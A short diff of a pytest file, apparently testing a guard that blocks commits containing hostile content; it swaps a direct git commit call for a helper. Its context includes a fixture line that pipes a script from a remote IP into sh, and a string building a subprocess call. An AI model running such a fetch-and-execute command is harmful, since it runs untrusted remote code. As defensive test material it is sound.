@@ -3,7 +3,7 @@
 import os
 
 import pytest
-from in_process import guard
+from in_process import commit, guard
 from repositories import Repo, key
 
 FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
@@ -42,7 +42,7 @@ RUN = 'import subprocess\n\n\ndef f(name):\n    x = {}; subprocess.run("report "
 def test_it_does_not_pass(guarded: Repo, path: str, text: str) -> None:
     guarded.write(path, text)
     guarded.git("add", "-A")
-    assert guarded.try_git("commit", "-q", "-m", "Add a file").code != 0
+    assert commit(guarded, "Add a file").code != 0
 
 
 @pytest.mark.parametrize("kind", ["binary", "submodule"])
